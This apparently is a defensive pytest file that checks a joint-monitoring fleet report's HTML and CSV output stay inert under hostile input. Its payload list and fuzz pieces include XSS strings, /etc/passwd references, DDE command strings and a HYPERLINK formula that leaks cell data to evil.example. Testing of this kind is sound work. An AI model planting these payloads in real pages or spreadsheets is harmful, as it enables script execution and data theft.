@@ -1,0 +1,241 @@
+# Copyright 2026 friction_joint maintainers
+#
+# Licensed under the Apache License, Version 2.0 (the "License");
+# you may not use this file except in compliance with the License.
+# You may obtain a copy of the License at
+#
+#     http://www.apache.org/licenses/LICENSE-2.0
+#
+# Unless required by applicable law or agreed to in writing, software
+# distributed under the License is distributed on an "AS IS" BASIS,
+# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+# See the License for the specific language governing permissions and
+# limitations under the License.
+"""
+``friction_joint fleet`` against a hostile manifest and a poisoned cache.
+
+A tiny simulated fleet (2 joints x 2 days) is monitored once (module
+fixture: its four results in ``cache.json``).  The tests then run the command
+again, with ``--force`` into a copy of that DIR, on manifests whose rows are
+copies of the four recordings (so every result comes from the cache: no
+cluster is started) under hostile joint ids, paths and metadata, or with a
+poisoned ``cache.json``:
+
+* the report is inert: its DOM (``html.parser``) has no script, no ``on*``
+  handler, no ``javascript:`` link, no iframe, and its only images are its
+  own trend plots; no file named by a payload is read (a private file, a
+  FIFO, ``/dev/zero``); recordings.csv has no cell a spreadsheet runs;
+* a poisoned cache entry is recomputed with a one-line warning, never a
+  traceback.
+"""
+import base64
+import csv
+import html.parser
+import os
+import re
+import shutil
+
+from friction_joint.cli import main
+from friction_joint.experiments.fleet import simulate_fleet
+from friction_joint.fleet.report import csv_cell, FORMULA_START
+from friction_joint.report_html import markdown_text, markdown_to_html
+from hypothesis import given, settings, strategies as st
+import pytest
+
+ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+MODEL = os.path.join(ROOT, 'config', 'csd25.yaml')
+SHORT = {'speeds': (0.5, 2.0)}
+PNG = b'\x89PNG\r\n\x1a\n'
+
+#: injection payloads: joint ids, recording names, metadata (the issue's list and more)
+PAYLOADS = [
+    '<script>alert(1)</script>',
+    '<svg onload=alert(1)>',
+    '<iframe srcdoc="<script>alert(2)</script>"></iframe>',
+    '[x](javascript:alert(3))',
+    '[y](&#106;avascript:alert(4))',
+    '[z](JaVa\tScRiPt:alert(5))',
+    '<a href="javascript:alert(6)">a</a>',
+    '<img src=/etc/passwd>',
+    '<img src=x onerror=alert(7)>',
+    '![p](/etc/passwd.png)',
+    '<body onload=alert(8)>',
+    '<details open ontoggle=alert(9)>',
+    '"><script>alert(10)</script>',
+    '<object data="javascript:alert(11)">',
+    '<math><mi xlink:href="javascript:alert(12)">m</mi></math>',
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '@SUM(1)',
+    '\tTAB=1+1',
+    '$\\frac{$ | pipe | `tick` ~~strike~~ **bold**',
+]
+
+
+def _page_dom(text):
+    """Return ``(start tags [(tag, attrs)], text data)`` of an HTML page."""
+    tags, data = [], []
+
+    class Parser(html.parser.HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            tags.append((tag, attrs))
+
+        def handle_startendtag(self, tag, attrs):
+            tags.append((tag, attrs))
+
+        def handle_data(self, d):
+            data.append(d)
+
+    p = Parser(convert_charrefs=True)
+    p.feed(text)
+    p.close()
+    return tags, ''.join(data)
+
+
+def _scheme(url):
+    plain = ''.join(c for c in url if c.isprintable() and not c.isspace()).lower()
+    return plain.split(':', 1)[0] if ':' in plain.split('/', 1)[0] else ''
+
+
+def assert_inert(page, own_images, secrets=()):
+    """Check a report page's DOM: nothing runs, the only images are ``own_images`` PNGs."""
+    tags, _ = _page_dom(page)
+    body = tags[[t for t, _ in tags].index('main'):]
+    names = [t for t, _ in body]
+    for bad in ('script', 'iframe', 'frame', 'object', 'embed', 'svg', 'math', 'base', 'form',
+                'style', 'meta', 'link', 'details', 'body'):
+        assert bad not in names, bad
+    imgs = []
+    for tag, attrs in tags:
+        for name, value in attrs:
+            assert not name.lower().startswith('on'), (tag, name, value)
+            assert name.lower() not in ('srcdoc', 'xlink:href', 'formaction'), (tag, name)
+            if name.lower() in ('href', 'src', 'action', 'data'):
+                assert _scheme(value or '') in ('', 'http', 'https', 'mailto', 'data'), value
+                if _scheme(value or '') == 'data':
+                    assert tag == 'img' and value.startswith('data:image/png;base64,'), value
+        if tag == 'img':
+            src = dict(attrs)['src']
+            assert src.startswith('data:image/png;base64,'), src[:80]
+            imgs.append(base64.b64decode(src.split(',', 1)[1], validate=True))
+    assert len(imgs) == own_images
+    assert all(img.startswith(PNG) for img in imgs)
+    for secret in secrets:
+        assert base64.b64encode(secret).decode() not in page
+        assert all(secret not in img for img in imgs)
+
+
+@pytest.fixture(scope='module')
+def monitored(tmp_path_factory):
+    """Simulate the tiny fleet and monitor it once: DIR holds the four results' cache."""
+    root = tmp_path_factory.mktemp('hostile')
+    simulate_fleet(root / 'fleet', joints=2, days=2, seed=5, cfg=SHORT)
+    rc = main(['fleet', '--manifest', str(root / 'fleet' / 'manifest.csv'), '--model', MODEL,
+               '--out', str(root / 'out'), '--workers', '1', '--quiet'])
+    assert rc == 0
+    with open(root / 'fleet' / 'manifest.csv', encoding='utf-8') as fh:
+        rows = list(csv.DictReader(fh))
+    return {'root': root, 'recordings': [root / 'fleet' / r['recording'] for r in rows],
+            'rows': rows}
+
+
+def _site(monitored, tmp_path):
+    """Copy DIR (with its cache) into ``tmp_path/out``; return it."""
+    out = tmp_path / 'out'
+    shutil.copytree(monitored['root'] / 'out', out)
+    return out
+
+
+def _write(path, header, rows):
+    with open(path, 'w', encoding='utf-8', newline='') as fh:
+        w = csv.writer(fh, lineterminator='\n')
+        w.writerow(header)
+        w.writerows(rows)
+
+
+def test_report_of_injection_payloads_is_inert(monitored, tmp_path, capsys):
+    out = _site(monitored, tmp_path)
+    secret = b'PRIVATE-BYTES-' + os.urandom(16)
+    (tmp_path / 'secret.png').write_bytes(PNG + secret)
+    os.mkfifo(tmp_path / 'pipe.png')
+    os.symlink('/dev/zero', tmp_path / 'zero.png')
+    files = [f'<img src={tmp_path / "secret.png"}>', f'![s]({tmp_path / "secret.png"})',
+             '<img src=pipe.png>', '![f](pipe.png)', '<img src=zero.png>', '![z](zero.png)',
+             f'<img src=file://{tmp_path / "secret.png"}>']
+    joints = PAYLOADS + files
+    os.mkdir(tmp_path / 'recs')
+    rows = []
+    for k, joint in enumerate(joints):
+        src = monitored['recordings'][k % len(monitored['recordings'])]
+        name = f'recs/r{k:02d}.mcap'
+        shutil.copy(src, tmp_path / name)
+        meta = PAYLOADS[k % len(PAYLOADS)]
+        rows.append([name, joint, monitored['rows'][k % 4]['time'], meta, 'plain'])
+    # a missing recording whose path is a payload: its failure reason quotes it
+    rows.append(['recs/<script>alert(13)<!--.mcap', '[r](javascript:alert(14))',
+                 '2026-03-04T10:00:00', '=1+1', '@x'])
+    _write(tmp_path / 'm.csv', ['recording', 'joint', 'time', 'note',
+                                '=HYPERLINK("http://evil.example")'], rows)
+    rc = main(['fleet', '--manifest', str(tmp_path / 'm.csv'), '--model', MODEL, '--out',
+               str(out), '--force', '--quiet'])
+    captured = capsys.readouterr()
+    assert rc == 0, captured.err
+    assert f'{len(joints) + 1} joints' in captured.out and '0 computed' in captured.out
+    page = (out / 'report.html').read_text(encoding='utf-8')
+    assert_inert(page, own_images=len(joints) + 1, secrets=[secret])
+    _, text = _page_dom(page)
+    for joint in joints:                                  # shown as written
+        assert ' '.join(joint.split()) in ' '.join(text.split()), joint
+    assert 'alert(13)' in text                            # the failure reason, escaped
+    with open(out / 'recordings.csv', encoding='utf-8', newline='') as fh:
+        table = list(csv.reader(fh))
+    cells = [c for row in table for c in row]
+    for c in cells:
+        if c.startswith(FORMULA_START):
+            float(c)                                      # only numbers may start with '-'
+    assert "'=HYPERLINK(\"http://evil.example\")" in table[0]
+    joint_col = [row[0] for row in table[1:]]
+    assert "'" + PAYLOADS[15] in joint_col and "'@SUM(1)" in joint_col
+    assert 'TAB=1+1' in joint_col and '<script>alert(1)</script>' in joint_col  # stripped
+
+
+# --------------------------------------------------------------- fuzz: reports ---
+
+#: pieces of markup the generated report texts are made of
+_PIECES = ['<', '>', '</', '[', ']', '(', ')', '![', '](', 'javascript:', 'JaVaScRiPt:',
+           'vbscript:', 'data:text/html,', '&#106;', '&#x6a;', '&colon;', 'script', 'iframe',
+           'svg', 'img', ' src=', ' href=', ' onerror=', ' onload=', 'alert(1)', '"', "'", '`',
+           '```\n', '\n', '\n\n', '|', '---', '$', '\\', '&', ';', '\t', '\x00', '*', '_', '#',
+           '- ', '1. ', '    ', 'http://x.example/', '//x.example', '/etc/passwd', '.png',
+           '<!--', '-->', '<![CDATA[', '=', '+', '@', 'x']
+_REPORT_TEXT = st.lists(st.one_of(st.sampled_from(_PIECES), st.text(max_size=4)),
+                        max_size=40).map(''.join)
+
+
+@settings(max_examples=300, deadline=None, derandomize=True, database=None)
+@given(_REPORT_TEXT)
+def test_fuzz_any_markdown_renders_inert(text):
+    page = markdown_to_html(text, images={'own.png': PNG + b'own'}, title=text)
+    assert_inert(page, own_images=page.count('<img'))
+    assert '<img' not in page or page.count('<img') == text.count('own.png')
+
+
+@settings(max_examples=300, deadline=None, derandomize=True, database=None)
+@given(_REPORT_TEXT)
+def test_fuzz_escaped_text_shows_as_written(text):
+    page = markdown_to_html(f'# {markdown_text(text)}\n\n| a |\n|---|\n| {markdown_text(text)} |'
+                            f'\n\n{markdown_text(text)}\n', images={})
+    assert_inert(page, own_images=0)
+    tags, shown = _page_dom(page.split('<main>', 1)[1])
+    assert {t for t, _ in tags} <= {'h1', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'p'}
+    plain = ' '.join(re.sub('[\x00-\x1f\x7f\u2028\u2029]', ' ', text).split())
+    assert ' '.join(shown.split()).count(plain) >= 3 or not plain, (text, shown)
+
+
+@settings(max_examples=200, deadline=None, derandomize=True, database=None)
+@given(st.text(max_size=20))
+def test_fuzz_csv_cells_never_start_a_formula(text):
+    cell = csv_cell(text)
+    assert not cell.startswith(FORMULA_START)
+    assert cell in (text, "'" + text)
